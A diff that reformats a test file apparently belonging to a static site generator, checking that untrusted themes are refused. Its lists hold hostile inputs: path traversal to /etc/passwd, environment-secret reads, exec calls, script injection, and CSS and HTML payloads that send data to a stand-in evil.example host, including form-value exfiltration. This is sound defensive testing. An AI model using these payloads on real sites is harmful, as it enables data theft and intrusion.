@@ -1,5 +1,5 @@
-"""A theme that somebody sent: its templates, style sheets and settings. They draw pages; they read nothing beside the theme, know nothing
-of the machine, and let no page ask another host."""
+"""A theme that somebody sent: its templates, style sheets and settings. They draw pages; they read nothing beside the
+theme, know nothing of the machine, and let no page ask another host."""
 import os
 
 from given import FRONT, built, each, edit, held, page, theme
@@ -13,7 +13,8 @@ SECRET = 'TOP SECRET WORDS'
 def drawn(site, text):
     """A theme whose pages draw this, with secrets beside it."""
     page(site, 'Words.\n')
-    for path in ('secret.html', 'site/secret.html', 'site/content/secret.txt', 'site/themes/secret.html', 'site/themes/other/templates/secret.html'):
+    for path in ('secret.html', 'site/secret.html', 'site/content/secret.txt', 'site/themes/secret.html',
+                 'site/themes/other/templates/secret.html'):
         path = site.folder / path
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(SECRET)
@@ -31,8 +32,10 @@ def keeps(site):
     return ran
 
 
-WAYS = ['../../secret.html', '../../../secret.html', '../../../../secret.html', '../../other/templates/secret.html', '/etc/passwd', '../../../../../../../../etc/passwd',
-        '../theme.yaml', '../../../content/secret.txt', 'file:///etc/passwd', 'https://evil.example/x.html', '../styles/base.css', '..\\\\..\\\\secret.html', 'parts/../../../secret.html']
+WAYS = ['../../secret.html', '../../../secret.html', '../../../../secret.html', '../../other/templates/secret.html',
+        '/etc/passwd', '../../../../../../../../etc/passwd',
+        '../theme.yaml', '../../../content/secret.txt', 'file:///etc/passwd', 'https://evil.example/x.html',
+        '../styles/base.css', '..\\\\..\\\\secret.html', 'parts/../../../secret.html']
 
 
 @each('a template that includes {}: refused', {it: it for it in WAYS})
@@ -48,8 +51,10 @@ def extends(site, path):
     assert keeps(site).code == 1
 
 
-CALLS = ['get_env(name="HANDBILL_SECRET")', 'get_env(name="PATH", default="x")', 'load_data(path="/etc/passwd")', 'load_data(url="https://evil.example")', 'now()', 'get_random(start=1, end=9)',
-         'read_file(path="/etc/passwd")', 'get_file(path="/etc/passwd")', 'exec(cmd="id")', '"/etc/passwd" | load_data', '"x" | shell', 'env.HANDBILL_SECRET', 'config.extra', 'get_url(path="x")',
+CALLS = ['get_env(name="HANDBILL_SECRET")', 'get_env(name="PATH", default="x")', 'load_data(path="/etc/passwd")',
+         'load_data(url="https://evil.example")', 'now()', 'get_random(start=1, end=9)',
+         'read_file(path="/etc/passwd")', 'get_file(path="/etc/passwd")', 'exec(cmd="id")', '"/etc/passwd" | load_data',
+         '"x" | shell', 'env.HANDBILL_SECRET', 'config.extra', 'get_url(path="x")',
          'resize_image(path="x")', '"x" | date(format="%s")']
 
 
@@ -68,8 +73,10 @@ def everything(site):
         assert str(site.folder) not in text and os.environ.get('HOME', '/nowhere/at/all') + '/' not in text, path.name
 
 
-SUMS = ['1 / 0', '1 % 0', '9223372036854775807 + 1', '-9223372036854775807 - 2', '9223372036854775807 * 2', '"a"[5:1]', '"äöü" | truncate(length=1)', '1.5 | round(precision=400)', '[] | first', '[1][9]',
-        '"x" | replace(from="", to="xx")', '1 | pluralize', '{} | get(key="x")', '"%%%" | urlencode', '"x" | indent(width=1000000000)', '"a" | split(pat="")', '1e308 * 10', '0.0 / 0.0', 'range(end=5, step_by=0)',
+SUMS = ['1 / 0', '1 % 0', '9223372036854775807 + 1', '-9223372036854775807 - 2', '9223372036854775807 * 2', '"a"[5:1]',
+        '"äöü" | truncate(length=1)', '1.5 | round(precision=400)', '[] | first', '[1][9]',
+        '"x" | replace(from="", to="xx")', '1 | pluralize', '{} | get(key="x")', '"%%%" | urlencode',
+        '"x" | indent(width=1000000000)', '"a" | split(pat="")', '1e308 * 10', '0.0 / 0.0', 'range(end=5, step_by=0)',
         'range(start=5, end=1)', 'range(end=-1)']
 
 
@@ -79,12 +86,20 @@ def reckon(site, code):
     keeps(site)
 
 
-AWAY = {'a picture': '<img src="https://evil.example/t.png" alt="">', 'a picture by sizes': '<img src="a.png" srcset="https://evil.example/t.png 2x" alt="">', 'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
-        'a script': '<script src="https://evil.example/x.js"></script>', 'a frame': '<iframe src="https://evil.example/" title="x"></iframe>', 'a film': '<video src="//evil.example/x.mp4" controls></video>',
-        'a form': '<form action="https://evil.example/"><button>Send</button></form>', 'an object': '<object data="https://evil.example/x" aria-label="x"></object>',
-        'a font beforehand': '<link rel="preload" as="font" href="https://evil.example/x.woff2">', 'a name beforehand': '<link rel="dns-prefetch" href="https://evil.example/">',
-        'a way on': '<meta http-equiv="refresh" content="0; url=https://evil.example/">', 'a base': '<base href="https://evil.example/">',
-        'a message for each click': '<a href="index.html" ping="https://evil.example/">Words</a>', 'a style of its own': '<p style="background: url(https://evil.example/t.png)">Words</p>'}
+AWAY = {'a picture': '<img src="https://evil.example/t.png" alt="">',
+        'a picture by sizes': '<img src="a.png" srcset="https://evil.example/t.png 2x" alt="">',
+        'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
+        'a script': '<script src="https://evil.example/x.js"></script>',
+        'a frame': '<iframe src="https://evil.example/" title="x"></iframe>',
+        'a film': '<video src="//evil.example/x.mp4" controls></video>',
+        'a form': '<form action="https://evil.example/"><button>Send</button></form>',
+        'an object': '<object data="https://evil.example/x" aria-label="x"></object>',
+        'a font beforehand': '<link rel="preload" as="font" href="https://evil.example/x.woff2">',
+        'a name beforehand': '<link rel="dns-prefetch" href="https://evil.example/">',
+        'a way on': '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+        'a base': '<base href="https://evil.example/">',
+        'a message for each click': '<a href="index.html" ping="https://evil.example/">Words</a>',
+        'a style of its own': '<p style="background: url(https://evil.example/t.png)">Words</p>'}
 
 
 @each('a template that lets pages ask another host by {}: refused with its file, as a style sheet is', AWAY)
@@ -94,9 +109,13 @@ def away(site, code):
     site.refused(DRAWN)
 
 
-URLS = ['url(https://evil.example/t.png)', 'url("//evil.example/t.png")', "url('HTTPS://evil.example/t.png')", 'url(\\68ttps://evil.example/t.png)', 'u\\72l(https://evil.example/t.png)',
-        'url( https://evil.example/t.png )', 'image-set("https://evil.example/t.png" 1x)', 'image-set(url(https://evil.example/t.png) 1x)', '-webkit-image-set(url(https://evil.example/t.png) 1x)',
-        'src("https://evil.example/t.png")', 'cross-fade(url(https://evil.example/t.png), red)', 'var(--gone, url(https://evil.example/t.png))', 'url(http:evil.example/t.png)', 'url(\\\\\\\\evil.example/t.png)', 'url(ftp://evil.example/t.png)']
+URLS = ['url(https://evil.example/t.png)', 'url("//evil.example/t.png")', "url('HTTPS://evil.example/t.png')",
+        'url(\\68ttps://evil.example/t.png)', 'u\\72l(https://evil.example/t.png)',
+        'url( https://evil.example/t.png )', 'image-set("https://evil.example/t.png" 1x)',
+        'image-set(url(https://evil.example/t.png) 1x)', '-webkit-image-set(url(https://evil.example/t.png) 1x)',
+        'src("https://evil.example/t.png")', 'cross-fade(url(https://evil.example/t.png), red)',
+        'var(--gone, url(https://evil.example/t.png))', 'url(http:evil.example/t.png)', 'url(\\\\\\\\evil.example/t.png)',
+        'url(ftp://evil.example/t.png)']
 
 
 @each('a style sheet with {}: refused at its line', {it: it for it in URLS})
@@ -106,12 +125,20 @@ def style(site, address):
     site.refused(STYLES + ':')
 
 
-RULES = {'@import of a file beside the theme': '@import "../../../secret.css";', '@import of a host': '@import url(https://evil.example/x.css);', '@import without url': '@import "https://evil.example/x.css" layer(x);',
-         'a font of a host': '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }', 'a pointer of a host': 'a { cursor: url(https://evil.example/x.cur), auto }',
-         'a sign of lists of a host': 'ul { list-style-image: url(https://evil.example/x.png) }', 'a property of its own': ':root { --x: url(https://evil.example/x.png) }',
-         'a filter of a host': 'a { filter: url(https://evil.example/x.svg#a) }', 'a mask of a host': 'a { mask: url(https://evil.example/x.svg) }', 'a name space of a host': 'a { content: url(https://evil.example/x) }',
-         'a host for a form that is filled in': 'input[value^="a"] { background: url(https://evil.example/a) }', 'a file of the system': 'a { background: url(file:///etc/passwd) }',
-         'a script address': 'a { background: url("javascript:alert(1)") }', 'a path out of the site': 'a { background: url(../../../../etc/passwd) }'}
+RULES = {'@import of a file beside the theme': '@import "../../../secret.css";',
+         '@import of a host': '@import url(https://evil.example/x.css);',
+         '@import without url': '@import "https://evil.example/x.css" layer(x);',
+         'a font of a host': '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
+         'a pointer of a host': 'a { cursor: url(https://evil.example/x.cur), auto }',
+         'a sign of lists of a host': 'ul { list-style-image: url(https://evil.example/x.png) }',
+         'a property of its own': ':root { --x: url(https://evil.example/x.png) }',
+         'a filter of a host': 'a { filter: url(https://evil.example/x.svg#a) }',
+         'a mask of a host': 'a { mask: url(https://evil.example/x.svg) }',
+         'a name space of a host': 'a { content: url(https://evil.example/x) }',
+         'a host for a form that is filled in': 'input[value^="a"] { background: url(https://evil.example/a) }',
+         'a file of the system': 'a { background: url(file:///etc/passwd) }',
+         'a script address': 'a { background: url("javascript:alert(1)") }',
+         'a path out of the site': 'a { background: url(../../../../etc/passwd) }'}
 
 
 @each('a style sheet with {}: refused at its line', RULES)
@@ -121,7 +148,8 @@ def rule(site, text):
     site.refused(STYLES + ':')
 
 
-DEAD = {'expression()': 'a { inline-size: expression(alert(1)) }', 'behavior': 'a { behavior: url(x.htc) }', '-moz-binding': 'a { -moz-binding: url(x.xml#a) }',
+DEAD = {'expression()': 'a { inline-size: expression(alert(1)) }', 'behavior': 'a { behavior: url(x.htc) }',
+        '-moz-binding': 'a { -moz-binding: url(x.xml#a) }',
         'the end of a style element': 'a::before { content: "</style><script>alert(1)</script>" }'}
 
 
@@ -134,10 +162,15 @@ def dead(site, text):
 
 EVIL = 'x; } body { background: url(https://evil.example/t.png) } a { b: c'
 THEME = {
-    'the family of a font': ('family: Noto Sans,', f'family: "{EVIL}",'), 'the weight of a font': ('file: "NotoSans[wght].ttf", weight: 400 700', 'file: "NotoSans[wght].ttf", weight: "400; src: url(https://evil.example/x)"'),
-    'the families of a script': ('fonts: [Noto Sans], size: 1', f'fonts: ["x\\"{EVIL}", Noto Sans], size: 1'), 'the class of a dye': ('class: ""', 'class: "x\\" onclick=\\"alert(1)"'),
-    'a language of a script': ('scripts: [Latn]', 'languages: ["en-GB\\"] { } a[x=\\"", en-GB], scripts: [Latn]'), 'the colour of a dye': ('dye: "#5c1a48"', 'dye: "#read(\\"/etc/passwd\\")"'),
-    'the name of a dye': ('  river:', '  "river\\"><script>alert(1)</script>":'), 'a colour’s name': ('print: { dye:', 'print: { "x: red } a { b": "#000000", dye:'),
+    'the family of a font': ('family: Noto Sans,', f'family: "{EVIL}",'),
+    'the weight of a font': ('file: "NotoSans[wght].ttf", weight: 400 700',
+                             'file: "NotoSans[wght].ttf", weight: "400; src: url(https://evil.example/x)"'),
+    'the families of a script': ('fonts: [Noto Sans], size: 1', f'fonts: ["x\\"{EVIL}", Noto Sans], size: 1'),
+    'the class of a dye': ('class: ""', 'class: "x\\" onclick=\\"alert(1)"'),
+    'a language of a script': ('scripts: [Latn]', 'languages: ["en-GB\\"] { } a[x=\\"", en-GB], scripts: [Latn]'),
+    'the colour of a dye': ('dye: "#5c1a48"', 'dye: "#read(\\"/etc/passwd\\")"'),
+    'the name of a dye': ('  river:', '  "river\\"><script>alert(1)</script>":'),
+    'a colour’s name': ('print: { dye:', 'print: { "x: red } a { b": "#000000", dye:'),
 }
 
 
@@ -153,11 +186,16 @@ def settings(site, change):
             assert not foreign(path.read_text()), path.name
 
 
-SIZES = {'a size of nothing': ('size: [210, 297], pages: 2', 'size: [0, 0], pages: 2'), 'a size below nothing': ('size: [210, 297], pages: 2', 'size: [-210, 297], pages: 2'),
-         'an endless size': ('size: [210, 297], pages: 2', 'size: [1e300, 297], pages: 2'), 'a size that is none': ('size: [210, 297], pages: 2', 'size: ["NaN", 297], pages: 2'),
-         'no pages': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: 0'), 'pages below nothing': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: -5'),
-         'endless pages': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: 1e300'), 'endless space': ('leading: 0.68', 'leading: 1e300'), 'space below nothing': ('leading: 0.68', 'leading: -100'),
-         'endless letters': ('size: 1, leading', 'size: 1e300, leading'), 'no letters': ('size: 1, leading', 'size: 0, leading'), 'tiny letters': ('size: 1, leading', 'size: 1e-300, leading')}
+SIZES = {'a size of nothing': ('size: [210, 297], pages: 2', 'size: [0, 0], pages: 2'),
+         'a size below nothing': ('size: [210, 297], pages: 2', 'size: [-210, 297], pages: 2'),
+         'an endless size': ('size: [210, 297], pages: 2', 'size: [1e300, 297], pages: 2'),
+         'a size that is none': ('size: [210, 297], pages: 2', 'size: ["NaN", 297], pages: 2'),
+         'no pages': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: 0'),
+         'pages below nothing': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: -5'),
+         'endless pages': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: 1e300'),
+         'endless space': ('leading: 0.68', 'leading: 1e300'), 'space below nothing': ('leading: 0.68', 'leading: -100'),
+         'endless letters': ('size: 1, leading', 'size: 1e300, leading'),
+         'no letters': ('size: 1, leading', 'size: 0, leading'), 'tiny letters': ('size: 1, leading', 'size: 1e-300, leading')}
 
 
 @each('{} in theme.yaml: refused with a place, or printed; no crash', SIZES, slow=True)
